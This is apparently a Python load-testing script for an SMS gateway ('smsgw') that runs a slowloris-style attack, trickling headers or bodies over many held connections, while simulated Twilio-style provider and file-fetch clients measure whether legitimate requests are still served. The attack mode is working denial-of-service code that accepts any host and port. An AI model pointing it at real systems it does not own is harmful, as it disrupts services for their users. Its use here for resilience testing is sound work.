#!/usr/bin/env python3
# slow.py - slow clients and a provider against smsgw's webhooks
#
#   slow.py attack HOST PORT SOURCE N INTERVAL
#       N connections from SOURCE, each sending one byte every INTERVAL
#       seconds: three in four trickle a request's headers, one in four
#       sends whole headers with Content-Length 60000 and trickles the
#       body. A connection the server closes is opened again a second
#       later. Runs until SIGTERM, then prints what it saw:
#       "attack: C connections, K closed by the server; header
#       tricklers lived at most H s, body tricklers at most B s" (the
#       longest-lived among those the server closed after accepting
#       them; 0 when none was).
#
#   slow.py attack HOST PORT SOURCE N INTERVAL PATH
#       The same, the headers those of a GET of PATH (a file's link), the
#       body tricklers' a POST to PATH.
#
#   slow.py fetch HOST PORT PATH SIZE SECONDS PERIOD
#       Someone opening a file's link: every PERIOD seconds for SECONDS,
#       a GET of PATH from 127.0.0.1, each in its own thread, each given
#       10 seconds; answered means 200 with SIZE bytes. Prints the same
#       "slow clients:" line as provider.
#
#   slow.py provider HOST PORT TOKEN PUBLIC_URL SECONDS PERIOD
#       A Twilio-style provider: every PERIOD seconds for SECONDS, a
#       signed POST of a new text to /twilio/sms from 127.0.0.1, each
#       in its own thread (a stuck one delays no other), each given 10
#       seconds. Prints "slow clients: answered N/M (P%), worst T ms"
#       (T over those answered 200) and one line per request not
#       answered.
import base64
import hashlib
import hmac
import http.client
import selectors
import signal
import socket
import sys
import threading
import time
import urllib.parse


def attack(host, port, source, n, interval, path=None):
    sel = selectors.DefaultSelector()
    conns = {}  # socket -> [kind, opened, sent, next byte at]
    reopen = []  # (when, kind)
    stats = {"opened": 0, "closed": 0, "life": {"header": 0.0, "body": 0.0}}
    head = ("POST /twilio/sms HTTP/1.1\r\nHost: %s\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            "X-Twilio-Signature: AAAA\r\n" % host).encode()
    body_head = head + b"Content-Length: 60000\r\n\r\n"
    if path:
        head = ("GET %s HTTP/1.1\r\nHost: %s\r\nRange: bytes=0-\r\n"
                "X-Padding: aaaa\r\n" % (path, host)).encode()
        body_head = ("POST %s HTTP/1.1\r\nHost: %s\r\n"
                     "Content-Length: 60000\r\n\r\n" % (path, host)).encode()

    def open_one(kind):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((source, 0))
            s.connect_ex((host, port))
        except OSError:
            s.close()
            reopen.append((time.monotonic() + 1, kind))
            return
        now = time.monotonic()
        conns[s] = [kind, now, 0, now]
        stats["opened"] += 1
        sel.register(s, selectors.EVENT_READ)

    def close_one(s, by_server):
        kind, opened = conns[s][0], conns[s][1]
        sel.unregister(s)
        s.close()
        del conns[s]
        if by_server:
            stats["closed"] += 1
            life = time.monotonic() - opened
            # closed at once: refused by a limit, not accepted
            if life > 1.5:
                stats["life"][kind] = max(stats["life"][kind], life)
        reopen.append((time.monotonic() + 1, kind))

    def report(*_):
        print("attack: %d connections, %d closed by the server; header "
              "tricklers lived at most %.1f s, body tricklers at most "
              "%.1f s" % (stats["opened"], stats["closed"],
                          stats["life"]["header"], stats["life"]["body"]),
              flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, report)
    for i in range(n):
        open_one("body" if i % 4 == 3 else "header")
    while True:
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:  # end of file, a reset or an answer: it is over
                s.recv(4096)
            except OSError:
                pass
            close_one(s, True)
        now = time.monotonic()
        for s in list(conns):
            c = conns[s]
            if now < c[3]:
                continue
            c[3] = now + interval
            kind, sent = c[0], c[2]
            if kind == "header":
                chunk = head[sent % len(head):sent % len(head) + 1]
            elif sent == 0:
                chunk = body_head
            else:
                chunk = b"a"
            try:
                s.send(chunk)
                c[2] += len(chunk) if kind == "body" and sent == 0 else 1
            except BlockingIOError:
                pass
            except OSError:
                close_one(s, True)
        due = [r for r in reopen if r[0] <= now]
        reopen[:] = [r for r in reopen if r[0] > now]
        for _, kind in due:
            open_one(kind)


def fetch(host, port, path, size, seconds, period):
    def one(i):
        t0 = time.monotonic()
        status, why = 0, ""
        try:
            c = http.client.HTTPConnection(host, port, timeout=10,
                                           source_address=("127.0.0.1", 0))
            c.request("GET", path)
            r = c.getresponse()
            n = len(r.read())
            status = r.status if n == size else -n
            c.close()
        except Exception as e:  # refused, reset, timed out
            why = "%s: %s" % (type(e).__name__, e)
        return status, (time.monotonic() - t0) * 1000, why

    run(one, seconds, period)


def run(one, seconds, period):
    results = []
    lock = threading.Lock()

    def each(i):
        status, ms, why = one(i)
        with lock:
            results.append((i, status, ms, why))

    threads = []
    start = time.monotonic()
    i = 0
    while time.monotonic() - start < seconds:
        t = threading.Thread(target=each, args=(i,))
        t.start()
        threads.append(t)
        i += 1
        time.sleep(max(0, start + i * period - time.monotonic()))
    for t in threads:
        t.join()
    ok = [r for r in results if r[1] == 200]
    worst = max((r[2] for r in ok), default=None)
    print("slow clients: answered %d/%d (%d%%), worst %s ms" % (
        len(ok), len(results), 100 * len(ok) // max(1, len(results)),
        "%.0f" % worst if worst is not None else "-"))
    for r in sorted(results):
        if r[1] != 200:
            print("    request %d: status %d after %.0f ms %s" % r)


def provider(host, port, token, public, seconds, period):
    def one(i):
        form = urllib.parse.urlencode({
            "From": "+12025550143", "To": "+12025550100",
            "Body": "slow test %d" % i, "MessageSid": "SMslow%04d" % i,
            "NumMedia": "0"})
        params = urllib.parse.parse_qsl(form, keep_blank_values=True)
        data = public + "/twilio/sms" + "".join(
            k + v for k, v in sorted(params))
        sig = base64.b64encode(hmac.new(token.encode(), data.encode(),
                                        hashlib.sha1).digest()).decode()
        t0 = time.monotonic()
        status, why = 0, ""
        try:
            c = http.client.HTTPConnection(host, port, timeout=10,
                                           source_address=("127.0.0.1", 0))
            c.request("POST", "/twilio/sms", form, {
                "Content-Type": "application/x-www-form-urlencoded",
                "X-Twilio-Signature": sig})
            r = c.getresponse()
            r.read()
            status = r.status
            c.close()
        except Exception as e:  # refused, reset, timed out
            why = "%s: %s" % (type(e).__name__, e)
        return status, (time.monotonic() - t0) * 1000, why

    run(one, seconds, period)


def main():
    a = sys.argv[1:]
    if a and a[0] == "attack" and len(a) in (6, 7):
        attack(a[1], int(a[2]), a[3], int(a[4]), float(a[5]),
               a[6] if len(a) == 7 else None)
    elif a and a[0] == "fetch" and len(a) == 7:
        fetch(a[1], int(a[2]), a[3], int(a[4]), float(a[5]), float(a[6]))
    elif a and a[0] == "provider" and len(a) == 7:
        provider(a[1], int(a[2]), a[3], a[4], float(a[5]), float(a[6]))
    else:
        sys.exit("usage: slow.py attack HOST PORT SOURCE N INTERVAL [PATH] "
                 "| fetch HOST PORT PATH SIZE SECONDS PERIOD "
                 "| provider HOST PORT TOKEN PUBLIC_URL SECONDS PERIOD")


if __name__ == "__main__":
    main()
